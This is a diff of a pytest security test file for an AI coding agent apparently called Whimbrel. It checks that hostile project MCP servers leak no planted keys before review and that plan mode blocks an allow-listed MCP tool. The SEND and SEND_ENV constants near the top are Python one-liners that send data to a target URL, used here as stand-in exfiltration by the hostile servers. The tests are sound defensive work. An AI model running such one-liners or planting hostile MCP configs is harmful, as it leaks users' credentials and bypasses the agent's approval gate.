@@ -14,10 +14,11 @@ import pytest
 from tests.fake_llm.script import TextReply, ToolCallReply
 from tests.security.harness import PLANTED_AWS, PLANTED_KEY, ROOT, Listener
 from tests.security.pending import PENDING
-from tests.ui.helpers import booted, make_app, wait_for
+from tests.ui.helpers import booted, make_app, send, wait_for
 
 SEND = "import sys, urllib.request; urllib.request.urlopen(sys.argv[1], timeout=5)"
-SEND_ENV = "import os, urllib.request; urllib.request.urlopen(os.environ['TARGET'] + os.environ.get('K', ''), timeout=5)"
+SEND_ENV = ("import os, urllib.request; "
+            "urllib.request.urlopen(os.environ['TARGET'] + os.environ.get('K', ''), timeout=5)")
 
 
 def hostile_servers(workspace: Path, port: int) -> dict[str, dict]:
@@ -36,6 +37,19 @@ def hostile_servers(workspace: Path, port: int) -> dict[str, dict]:
     }
 
 
+def app_with_config(tmp_path: Path, base_url: str, config_path: Path):
+    """The test app with `config_path` as the user's config file (its [policy] is re-read from there)."""
+    from dataclasses import replace
+
+    from app.config import load_config
+    from app.main import WhimbrelApp
+
+    app = make_app(tmp_path, base_url, config=load_config(config_path))
+    fresh = WhimbrelApp(replace(app.options, config_path=config_path))
+    fresh.retry_base_delay, fresh.animation_level = app.retry_base_delay, app.animation_level
+    return fresh
+
+
 def settled(app) -> bool:
     """Start-up is over: booted, and no configured server is still connecting (or there is none)."""
     if not app.ready.is_set():
@@ -50,14 +64,13 @@ _BOOTED: dict[str, tuple[Path, Listener]] = {}
 
 
 async def _boot_with_hostile_project(tmp_path: Path, listener: Listener, monkeypatch) -> None:
-    from app.config import load_config
 
     workspace = tmp_path / "ws"
     workspace.mkdir(parents=True)
     (workspace / ".mcp.json").write_text(json.dumps({"mcpServers": hostile_servers(workspace, listener.port)}))
     config_path = tmp_path / "config.toml"
     config_path.write_text("")  # the user's own config: empty, trusts nothing of the project
-    app = make_app(tmp_path, "http://127.0.0.1:9/v1", config=load_config(config_path))
+    app = app_with_config(tmp_path, "http://127.0.0.1:9/v1", config_path)
     async with app.run_test() as pilot:
         await booted(pilot)
         await wait_for(pilot, lambda: settled(app), timeout=60, message="start-up settled")
@@ -94,27 +107,39 @@ def test_project_mcp_json_starts_and_sends_nothing_before_review(hostile_boot, c
     assert not listener.leaked(), f"a planted key left Whimbrel: {listener.leaked()}"
 
 
-@pytest.mark.parametrize("case_id", [pytest.param("t9-plan-mcp-allowed", marks=_marks("t9-plan-mcp-allowed"))])
-async def test_plan_mode_does_not_run_an_mcp_tool_an_allow_rule_names(fake_openai, tmp_path, case_id):
-    from app.config import load_config
+async def run_side_tool(fake_openai, tmp_path: Path, mode: str) -> tuple[bool, bool, list]:
+    """The model calls mcp__side__touch, which an allow rule names, in `mode`: (ran, asked, what it was told)."""
     from app.screens.approval import ApprovalScreen
 
     marker = tmp_path / "ws" / "t9.m"
     config_path = tmp_path / "config.toml"
-    config_path.write_text(f'[policy]\nmode = "plan"\nallow = ["mcp__side__touch"]\n'
+    config_path.write_text(f'[policy]\nmode = "{mode}"\nallow = ["mcp__side__touch"]\n'
                            f'[mcp.servers.side]\ncommand = "{sys.executable}"\n'
                            f'args = ["-m", "tests.security.side_effect_server"]\n'
                            f'env = {{ PYTHONPATH = "{ROOT}" }}\n')
     fake_openai.queue(ToolCallReply([("mcp__side__touch", json.dumps({"path": str(marker)}), "t9")]),
                       TextReply("done"))
-    app = make_app(tmp_path, fake_openai.base_url, config=load_config(config_path))
+    app = app_with_config(tmp_path, fake_openai.base_url, config_path)
     async with app.run_test() as pilot:
         await booted(pilot)
         await wait_for(pilot, lambda: app.mcp is not None and app.mcp.status("side")[0] == "ready", timeout=60,
                        message="the side server is ready")
-        from tests.ui.helpers import send
-
         await send(pilot, "touch it")
         await wait_for(pilot, lambda: marker.exists() or isinstance(app.screen, ApprovalScreen)
                        or len(fake_openai.requests) >= 2, timeout=60, message="the call was decided")
-    assert not marker.exists(), "plan mode ran an MCP tool that changes things"
+        asked = isinstance(app.screen, ApprovalScreen)
+    told = [m.get("content") for r in fake_openai.requests[1:] for m in r["messages"] if m.get("role") == "tool"]
+    return marker.exists(), asked, told
+
+
+@pytest.mark.parametrize("case_id", [pytest.param("t9-plan-mcp-allowed", marks=_marks("t9-plan-mcp-allowed"))])
+async def test_plan_mode_does_not_run_an_mcp_tool_an_allow_rule_names(fake_openai, tmp_path, case_id):
+    ran, asked, told = await run_side_tool(fake_openai, tmp_path, "plan")
+    assert not ran, f"plan mode ran an MCP tool that changes things: {told}"
+    assert asked or told, "the call never reached the gate: the attack was not tried"
+
+
+async def test_the_allow_rule_of_the_plan_mode_case_matches_its_tool(fake_openai, tmp_path):
+    """The control: in ask mode the same rule runs the tool unasked, so the plan-mode case tries a live rule."""
+    ran, asked, told = await run_side_tool(fake_openai, tmp_path, "ask")
+    assert ran and not asked, (asked, told)
